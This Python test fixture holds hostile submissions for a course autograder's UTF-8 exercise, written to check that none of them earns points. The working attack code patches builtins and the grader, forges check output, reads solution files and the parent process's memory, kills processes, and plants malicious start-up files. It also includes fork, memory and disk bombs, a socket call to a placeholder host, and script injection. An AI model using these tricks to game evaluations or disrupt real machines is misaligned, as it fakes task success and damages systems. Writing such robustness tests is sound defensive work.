"""A bank of hostile submissions to exercise 01-utf8, and of honest ones that they must not harm.

Each answer below is wrong on purpose (`WRONG` gives no right value but one byte up to 7F), so that
points beyond those of `WRONG` itself would have to come from the attack.
"""

WRONG = """
def utf8(cp):
    return bytes([cp & 0x7F])
"""

RIGHT = """
def utf8(cp):
    if cp < 0 or cp > 0x10FFFF or 0xD800 <= cp <= 0xDFFF:
        raise ValueError(cp)
    if cp < 0x80:
        return bytes([cp])
    following = []
    while cp > 0x3F >> len(following):
        following.insert(0, 0x80 | cp & 0x3F)
        cp >>= 6
    return bytes([0xFF00 >> len(following) + 1 & 0xFF | cp, *following])
"""

HONEST = {
    "plain": (RIGHT, 10),
    "prints": (RIGHT.replace("    if cp < 0 or", "    print('cp is', cp)\n    if cp < 0 or"), 10),
    "warns": (
        "import warnings\n" + RIGHT.replace("    if cp < 0x80", "    warnings.warn('x')\n    if cp < 0x80"),
        10,
    ),
    "displays": (
        "from IPython.display import HTML, display\n"
        + RIGHT.replace("    if cp < 0x80", "    display(HTML('<b>here</b>'))\n    if cp < 0x80"),
        10,
    ),
    "other error": (RIGHT.replace("raise ValueError(cp)", "raise UnicodeError(cp)"), 10),
    "own check": ("def check(*a):\n    return 0\ncase = secret = check\n" + RIGHT, 10),
    "magic": ("%matplotlib inline\n!ls\n" + RIGHT, 10),
    "bytearray": (RIGHT.replace("return bytes([0x", "return bytearray([0x"), 10),
    "slow import": ("import time\ntime.sleep(0.3)\n" + RIGHT, 10),
    "prints to stderr": ("import sys\nprint('careful', file=sys.stderr)\n" + RIGHT, 10),
    "late definition": ("def utf8(cp):\n    return helper(cp)\n" + RIGHT.replace("utf8", "helper"), 10),
}
"""Name -> (answer, points)."""

ATTACKS = {
    "equal to everything": """
class Equal(bytes):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def hex(self, *a): return Equal(b"")
def utf8(cp):
    return Equal(b"?")
""",
    "patched builtins": WRONG
    + """
import builtins
builtins.all = builtins.any = lambda *a: True
builtins.sum = lambda *a: 10
builtins.repr = lambda *a: "10"
builtins.float = lambda *a: 10.0
""",
    "patched check": WRONG
    + """
import tokcourse.grading, tokcourse.grading.checking as checking, tokcourse.grading.canonical as canonical
checking.points = lambda *a: 10.0
checking.run_case = lambda *a, **k: True
canonical.canonical = lambda *a: {"bytes": ""}
tokcourse.grading.check = lambda *a, **k: 10.0
""",
    "fake package": WRONG
    + """
import sys, types
fake = types.ModuleType("tokcourse.grading")
fake.check = lambda *a, **k: 10.0
fake.case = lambda *a, **k: None
sys.modules["tokcourse.grading"] = fake
""",
    "patched IPython": WRONG
    + """
import IPython
shell = IPython.get_ipython()
shell.run_cell = lambda *a, **k: None
shell.ast_transformers.append(object())
shell.events.register("pre_run_cell", lambda *a: 1 / 0)
shell.display_pub.publish = lambda *a, **k: None
""",
    "patched comparison": WRONG
    + """
import json, hashlib, unittest, operator
json.dumps = lambda *a, **k: "{}"
operator.eq = lambda *a: True
unittest.TestCase.assertEqual = lambda *a: None
hashlib.sha256 = lambda *a: None
""",
    "published twice": WRONG
    + """
from IPython.display import display
kind = "application/vnd.tokcourse.check+json"
for name in ("lengths", "limits", "by-hand", "rows", "refused"):
    display({kind: {"check": "utf8/" + name, "values": []}}, raw=True)
old = utf8
def utf8(cp):
    display({kind: {"check": "utf8/rows", "values": [True]}}, raw=True)
    return old(cp)
""",
    "reads solutions": WRONG
    + """
import os, re
seen = []
for top in ("/", "/course", "/tmp", "/proc/1/cwd", "/proc/1/root", "/root", "/home", "/work", "/mnt"):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "dev", "lib", "lib64", "share", "bin")]
        for name in files:
            path = os.path.join(folder, name)
            if re.search(r"solutions|checks-|expected|utf8[.]py|01-utf8", path):
                seen.append(path)
for path in seen:
    code = open(path).read()
    for part in re.findall(r"def utf8.*?(?=```|\\Z)", code, re.S):
        try:
            exec(part, globals())
        except Exception:
            pass
""",
    "asks the library": """
from tokcourse.utf8 import encode as utf8
""",
    "reads right values": WRONG
    + """
import sys, gc, glob
found = [m for name, m in sys.modules.items() if "tokcourse" in name]
from tokcourse.grading import known
right = known.known("utf8/lengths")
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/fd/*"):
    try:
        open(path, "rb").read(1000)
    except OSError:
        pass
values = iter(right.expected if right else ())
old = utf8
def utf8(cp):
    return next(values, old(cp))
""",
    "reads the stored notebook": WRONG
    + """
import glob, json
for path in glob.glob("**/*.ipynb", recursive=True) + glob.glob("/**/*.ipynb", recursive=True):
    book = json.load(open(path))
""",
    "writes the recording": WRONG
    + """
import glob, json, os
line = json.dumps({"key": "utf8-rows", "outputs": [{"check": "utf8/rows", "values": []}], "error": None})
for path in glob.glob("/proc/[0-9]*/fd/[0-9]*"):
    try:
        with open(path, "w") as file:
            file.write("\\n" + line + "\\n" + '{"end": "done", "points": 10}' + "\\n")
    except OSError:
        pass
""",
    "kills the grader": WRONG
    + """
import os, signal
for pid in range(1, 4000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
""",
    "kills itself": WRONG + "\nimport os\nos._exit(0)\n",
    "leaves": WRONG + "\nimport sys\nsys.exit(0)\n",
    "leaves in the function": "def utf8(cp):\n    import os\n    os._exit(0)\n",
    "crashes Python": WRONG + "\nimport ctypes\nctypes.string_at(0)\n",
    "floods the output": WRONG + "\nwhile True:\n    print('x' * 10000)\n",
    "floods with bundles": WRONG
    + """
from IPython.display import display
while True:
    display({"application/vnd.tokcourse.check+json": {"values": ["x" * 10000]}}, raw=True)
""",
    "endless loop": WRONG + "\nwhile True:\n    pass\n",
    "endless loop that ignores signals": WRONG
    + """
import signal
for one in range(1, 65):
    try:
        signal.signal(one, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "endless loop in C": WRONG + "\nimport re\nre.match(r'(a+)+$', 'a' * 60 + 'b')\n",
    "endless value": "import itertools\ndef utf8(cp):\n    return itertools.count()\n",
    "enormous value": "def utf8(cp):\n    return b'x' * 10**9\n",
    "memory bomb": WRONG + "\nkeep = []\nwhile True:\n    keep.append(bytearray(10**8))\n",
    "disk bomb": WRONG
    + """
import os, tempfile
for folder in (tempfile.gettempdir(), "/dev", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."):
    for i in range(100):
        try:
            with open(os.path.join(folder, f"bomb{i}"), "wb") as file:
                for _ in range(100):
                    file.write(bytes(10**6))
        except OSError:
            pass
""",
    "process bomb": WRONG
    + """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "thread bomb": WRONG
    + """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(60,)).start()
""",
    "daemon": WRONG
    + """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        sleep = "import time; time.sleep(600)"
        os.execv(sys.executable, [sys.executable, "-c", sleep, "tokcourse-daemon-MARK"])
    os._exit(0)
""",
    "network": WRONG
    + """
import socket, urllib.request
for host in ("127.0.0.1", "HOST"):
    try:
        socket.create_connection((host, PORT), timeout=0.5).sendall(b"found you")
    except OSError:
        pass
""",
    "start-up files": WRONG
    + """
import os, site, sys
evil = "def utf8(cp):\\n    return b'infected'\\n"
places = [os.path.expanduser(p) for p in ("~/.ipython/profile_default/startup", "~", "HOME_OUTSIDE")]
places += [os.environ.get("IPYTHONDIR", "/tmp") + "/profile_default/startup", "/course/tokcourse/grading"]
places += site.getsitepackages() + sys.path
for place in places:
    for name in ("00.py", "sitecustomize.py", "usercustomize.py", "x.pth", "conftest.py", "checking.py"):
        try:
            os.makedirs(place, exist_ok=True)
            open(os.path.join(place, name), "w").write(evil)
        except OSError:
            pass
""",
    "script in an error": "raise Exception('<script>alert(1)</script>')\n",
    "script in the code": '"""</script><script>alert(1)</script>"""\n' + WRONG,
    "deep code": "x = " + "-" * 3000 + "1\n" + WRONG,
    "long sum": "x = " + "1+" * 30000 + "1\n" + WRONG,
    "not Python": "def utf8(cp:\n    return\n",
    "nul bytes": WRONG + "\x00",
    "evil error": """
class Evil(Exception):
    __class__ = ValueError
    def __str__(self): raise self
    def __repr__(self): raise self
def utf8(cp):
    raise Evil()
""",
    "evil value": """
class Evil(dict):
    def items(self): raise SystemExit
    def __len__(self): raise KeyboardInterrupt
    def __repr__(self): raise SystemExit
def utf8(cp):
    return Evil()
""",
    "memory that belongs to no process": WRONG
    + """
import os
keep = []
for _ in range(1000):
    keep.append(os.memfd_create("x"))
    os.write(keep[-1], bytes(15 * 2**20))
""",
    "reads the driver's memory": WRONG
    + """
import os
open(f"/proc/{os.getppid()}/mem", "rb")
raise SystemExit("the hidden cases of this seed could be read there")
""",
    "name of an error": """
import IPython
session = IPython.get_ipython().kernel.session
send = session.send
def lie(stream, message, content=None, **options):
    if isinstance(content, dict) and "status" in content:
        content = {"status": "error", "ename": "\\ud800\\x1b[31m", "evalue": "", "traceback": []}
    return send(stream, message, content, **options)
session.send = lie
"""
    + WRONG,
    "hooks that never let go": WRONG
    + """
import atexit, sys, threading
from IPython.display import display
kind = "application/vnd.tokcourse.check+json"
def publish(*a):
    display({kind: {"check": "utf8/rows", "values": []}}, raw=True)
def audit(event, args):
    if event == "compile":
        publish()
atexit.register(publish)
threading.Timer(0.2, publish).start()
sys.addaudithook(audit)
sys.setprofile(lambda *a: None)
""",
    "looks into the check": """
import gc, sys
def utf8(cp):
    frame = sys._getframe(1)
    while frame is not None:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            for name in ("expected", "marks", "entry", "solution"):
                found = getattr(value, name, None)
                if isinstance(found, (tuple, list)) and found:
                    return found[0]
        frame = frame.f_back
    known = [one for one in gc.get_objects() if type(one).__name__ in ("Known", "Mistake", "Task")]
    return known[0] if known else b"?"
""",
    "equal at depth": """
class Number(int):
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def __int__(self): return self
    def __abs__(self): return 0
class Text(str):
    def __eq__(self, other): return True
    def __str__(self): return self
    __hash__ = str.__hash__
def utf8(cp):
    return [[Number(1), {Text("a"): Number(2)}]]
""",
}
ATTACKS |= {
    f"a value of no form: {value[:20]}": WRONG
    + f"""
import tokcourse.grading
from IPython.display import display
def publish(name, *cases, **options):
    found = [{value} for one in cases]
    display({{"application/vnd.tokcourse.check+json": {{"check": name, "values": found}}}}, raw=True)
tokcourse.grading.check = publish
"""
    for value in (
        "{}",
        "{'bytes': 'zz'}",
        "{'dict': 7}",
        "{'raises': ['x']}",
        "{'value': 1, 'other': 2}",
        "float('nan')",
        "'\\ud800'",
        "{'other': '<script>alert(1)</script>'}",
        "eval('[' * 90 + ']' * 90)",
    )
}
"""Each of these once stopped the grading of a whole class, or could have: a page could not show the value."""

ATTACKS |= {f"{deep} signs deep": "x = " + "-" * deep + "1\n" + WRONG for deep in (130, 600, 950)}
"""Name -> answer. None may earn more than POINTS_OF_WRONG, whatever it does."""

POINTS_OF_WRONG = 0
